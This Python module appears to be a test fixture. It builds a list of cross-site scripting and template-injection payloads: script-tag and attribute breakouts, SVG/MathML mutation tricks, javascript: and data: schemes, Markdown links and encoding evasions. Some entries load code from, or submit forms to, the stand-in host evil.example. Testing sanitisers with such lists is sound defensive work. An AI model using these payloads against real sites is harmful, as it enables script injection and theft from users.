"""Texts that would run if a page were careless, written from the known families."""

_ALERT = "alert(1)"
_TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "input",
    "iframe",
    "object",
    "details",
    "marquee",
    "select",
    "style",
)
_EVENTS = (
    "onload",
    "onerror",
    "onfocus autofocus",
    "ontoggle open",
    "onstart",
    "onanimationstart",
    "onbeforetoggle",
)
_SCHEMES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)"),
    *(
        "java&#10;script:alert(1)",
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "\x01javascript:alert(1)",
    ),
    *(
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ),
    *("vbscript:msgbox(1)", "blob:alert(1)", "//evil.example/x.js", "https://evil.example/x"),
)


def _payloads() -> list[str]:
    payloads = [
        # scripts, as they are and disguised
        *(
            "<script>alert(1)</script>",
            "<SCRIPT>alert(1)</SCRIPT>",
            "<script src=//evil.example/x.js></script>",
        ),
        *(
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script\x20type='module'>alert(1)</script>",
            "<script/x>alert(1)",
        ),
        *(
            "<script\n>alert(1)</script\n>",
            "<script>alert`1`</script>",
            "<<script>alert(1);//<</script>",
            "<script>//-->",
        ),
        *("<script src='data:text/javascript,alert(1)'></script>", "<script nonce=''>alert(1)</script>"),
        # out of where a value might stand
        *('"><script>alert(1)</script>', "'><script>alert(1)</script>", "</script><script>alert(1)</script>"),
        *(
            "</title><script>alert(1)</script>",
            "</textarea><script>alert(1)</script>",
            "--><script>alert(1)</script>",
        ),
        *(
            "]]><script>alert(1)</script>",
            "</style><script>alert(1)</script>",
            "</noscript><script>alert(1)</script>",
        ),
        *(
            "</template><script>alert(1)</script>",
            "</iframe><script>alert(1)</script>",
            "*/alert(1)/*",
            "';alert(1);//",
        ),
        *(
            '";alert(1);//',
            '\\";alert(1);//',
            "`;alert(1);//",
            "${alert(1)}",
            "\u2028alert(1)",
            "\u2029alert(1)//",
        ),
        *(
            '" onmouseover="alert(1)',
            "' onfocus='alert(1)' autofocus='",
            '" style="x:expression(alert(1))',
            "` onload=alert(1)",
        ),
        *('"/><img src=x onerror=alert(1)>', "x onerror=alert(1)//", '<a"><img/src/onerror=alert(1)>'),
        # the data block of the page
        *(
            "</script",
            "<!--<script>",
            "<!-- --!><img src=x onerror=alert(1)>",
            '{"__proto__": {"x": 1}}',
            "<!--><img src=x onerror=alert(1)-->",
        ),
        # templates and expressions of frameworks
        *(
            "{{7*7}}",
            "{{constructor.constructor('alert(1)')()}}",
            "{% raw %}",
            "<%= 7*7 %>",
            "#{7*7}",
            "{{config}}",
            "{n}",
            "{choice}",
        ),
        *("$&", "$1 $` $'", "%s %d", "{0.__class__}", "{{''.__class__.__mro__}}", "[[${7*7}]]"),
        # svg, mathml and mutation
        "<svg><script>alert(1)</script></svg>",
        "<svg><script>alert&#40;1&#41;</script>",
        "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
        "<math href=javascript:alert(1)>x</math>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><img src=x onerror=alert(1)></template>",
        "<table><td background=javascript:alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<img/src='x'/onerror=alert(1)>",
        "<img src=x\x0bonerror=alert(1)>",
        "<img src=x onerror\x0c=\x0calert(1)>",
        "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
        "<img srcset=x onerror=alert(1)>",
        "<image src=x onerror=alert(1)>",
        "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
        "<xss style=animation-name:x onanimationstart=alert(1)>",
        "<isindex type=image src=1 onerror=alert(1)>",
        # whole pages, forms and styles
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        '<meta http-equiv=Content-Security-Policy content="script-src *">',
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=import href=https://evil.example/x.html>",
        "<link rel=preload as=script href=https://evil.example/x.js>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(https://evil.example/x)}</style>",
        "<p style=\"background:url('https://evil.example/y')\">",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        "<form action=https://evil.example/><input type=submit></form>",
        "<form id=answer><input name=question value=other></form>",
        "<button form=answer name=outcome value=left>x</button>",
        "<input name=form_key value=x><button formaction=javascript:alert(1)>x</button>",
        "<a href=https://evil.example/ target=_top>x</a>",
        "<div popover id=guide>x</div><button popovertarget=guide>x</button>",
        "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
        "<div id=work>[]</div><div id=words>{}</div>",
        # Markdown
        *(
            "[x](javascript:alert(1))",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/x.png)",
            "<javascript:alert(1)>",
        ),
        *(
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x]: javascript:alert(1)\n\n[x]",
            '![x](x"onerror=alert(1)//)',
        ),
        *(
            '[x](https://evil.example "t\\" onclick=alert(1)")',
            "`<img src=x onerror=alert(1)>`",
            "```html\n<script>alert(1)</script>\n```",
        ),
        *(
            '!["onerror=alert(1)](data:image/png;base64,AAAA)',
            "![x](data:image/svg+xml;base64,PHN2Zy8+)",
            "[a](<javascript:alert(1)>)",
        ),
        # encodings
        *(
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\u003cscript\\u003e",
        ),
        *(
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\ufeff<script>alert(1)</script>",
            "＜script＞alert(1)＜/script＞",
        ),
        *(
            "\u202e>tpircs<",
            "\u2066<b>\u2069",
            "<\u0131mg src=x onerror=alert(1)>",
            "&amp;lt;b&amp;gt;",
            "&NotAnEntity;",
            "&copy=1",
        ),
    ]
    payloads += [
        f"<{tag} src=x {event.split()[0]}={_ALERT} {' '.join(event.split()[1:])}>"
        for tag in _TAGS[:8]
        for event in _EVENTS[:4]
    ]
    payloads += [f'<a href="{scheme}">x</a>' for scheme in _SCHEMES]
    return list(dict.fromkeys(payloads))


PAYLOADS = _payloads()
